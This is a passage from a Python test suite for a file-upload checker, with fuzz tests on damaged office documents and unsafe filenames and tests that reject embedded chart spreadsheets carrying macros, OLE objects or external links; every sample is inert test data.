    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"MZ",
]


def never_raises_anything_else(data: bytes, name: str = "evidence") -> None:
    try:
        checked = check(data, name)
    except UploadRejected as refused:
        rejection = refused
    else:
        assert 0 < checked.size <= MAX_UPLOAD_BYTES
        return
    assert rejection.message
    assert rejection.code


def test_random_bytes_only_ever_raise_upload_rejected():
    generator = random.Random(20250601)
    for _ in range(400):
        data = generator.randbytes(generator.randrange(0, 3000))
        never_raises_anything_else(data)
        never_raises_anything_else(generator.choice(SIGNATURES) + data)


def test_damaged_documents_only_ever_raise_upload_rejected():
    generator = random.Random(1234)
    samples = [make_docx(), make_xlsx(), make_odt(), make_ods()]
    for _ in range(600):
        data = bytearray(generator.choice(samples))
        for _ in range(generator.randrange(1, 12)):
            data[generator.randrange(len(data))] = generator.randrange(256)
        if generator.random() < 0.2:
            del data[generator.randrange(len(data)) :]
        never_raises_anything_else(bytes(data))


def test_damaged_central_directories_only_ever_raise_upload_rejected():
    # The directory holds the sizes, offsets and counts zipfile trusts; damage it field by field.
    generator = random.Random(99)
    docx = make_docx()
    entries = central_directory(docx)
    end = docx.rindex(b"PK\x05\x06")
    for _ in range(400):
        data = bytearray(docx)
        position = generator.choice([*entries, end]) + generator.randrange(0, 46)
        if position < len(data):
            data[position] = generator.randrange(256)
        never_raises_anything_else(bytes(data))


NAME_ALPHABET = (
    'abcXYZ019 ._-/\\:*?"<>|\x00\n\t\r\x7f\x1b\u202e\u200d\u200b\ufeff\u2028'
    "é\u0301ßøł日本👩⚕\udc80\xa0"
)


def test_random_names_are_always_made_safe():
    generator = random.Random(7)
    for _ in range(1500):
        name = "".join(generator.choice(NAME_ALPHABET) for _ in range(generator.randrange(0, 200)))
        if generator.random() < 0.5:
            name += generator.choice([".pdf", ".PDF", ".pdf.", "..pdf", ".exe", ""])
        try:
            checked = check(make_pdf(), name)
        except UploadRejected as refused:
            code = refused.code
        else:
            code = ""
        if code:
            assert code == "name_mismatch"
            continue
        safe = checked.safe_name
        assert 0 < len(safe) <= 120
        assert safe.lower().endswith("." + checked.extension)
        assert checked.extension == "pdf"
        assert not safe.startswith((".", " "))
        assert "  " not in safe
        assert not set(safe) & set("/\\:*?<>|")  # quotes are kept: they are part of names
        assert unicodedata.is_normalized("NFC", safe)
        for character in safe:
            category = unicodedata.category(character)
            assert category not in ("Cc", "Cs", "Zl", "Zp")
            assert category != "Cf" or character == "\u200d"


# --- A chart's spreadsheet is the one embedded part allowed ---------------------------------------

CHART_RELS = "word/charts/_rels/chart1.xml.rels"
CHART_WORKBOOK = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"


def docx_with_chart(
    workbook: bytes, *, rels_part: str = CHART_RELS, target: str = "../embeddings/"
) -> bytes:
    return make_docx(
        (
            "word/_rels/document.xml.rels",
            RELS.format(relationship("chart", "charts/chart1.xml", number=1)),
        ),
        ("word/charts/chart1.xml", "<c:chartSpace/>"),
        (
            rels_part,
            RELS.format(relationship("package", f"{target}Microsoft_Excel_Worksheet.xlsx")),
        ),
        (CHART_WORKBOOK, workbook),
    )


def xlsx_with(*extra: tuple[str, bytes | str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(make_xlsx())) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    return make_zip([*members, *extra])


def test_a_word_file_with_a_chart_is_accepted():
    assert check(docx_with_chart(make_xlsx()), "policy.docx").kind_label == "Word document (DOCX)"


@pytest.mark.parametrize(
    ("workbook", "code"),
    [
        # The chart's "spreadsheet" is really a program, or an old-format OLE file.
        (b"MZ\x90\x00" + bytes(200), "damaged"),
        (b"\xd0\xcf\x11\xe0" + bytes(200), "damaged"),
        # A spreadsheet with macros, or with an object of its own, or linking outside.
        (xlsx_with(("xl/vbaProject.bin", b"\x00" * 64)), "macros"),
        (xlsx_with(("xl/embeddings/oleObject1.bin", b"\xd0\xcf" + bytes(50))), "embedded_objects"),
        (
            xlsx_with(
                (
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    RELS.format(relationship("externalLinkPath", "file:///C:/x.xlsx", "External")),
                )
            ),
            "external_content",
        ),
        # A Word document dressed as the chart's spreadsheet.
        (make_docx(), "embedded_objects"),
    ],
)
def test_a_charts_spreadsheet_is_checked_like_an_upload(workbook, code):
    assert rejection(docx_with_chart(workbook), "policy.docx").code == code


def test_an_embedded_spreadsheet_not_linked_from_a_chart_is_refused():
    linked_from_the_document = docx_with_chart(
        make_xlsx(), rels_part="word/_rels/footnotes.xml.rels", target="embeddings/"
    )
    assert rejection(linked_from_the_document, "policy.docx").code == "embedded_objects"
    # A chart linking a spreadsheet kept somewhere other than the embeddings folder.
    elsewhere = docx_with_chart(make_xlsx(), target="../media/")
    assert rejection(elsewhere, "policy.docx").code == "embedded_objects"
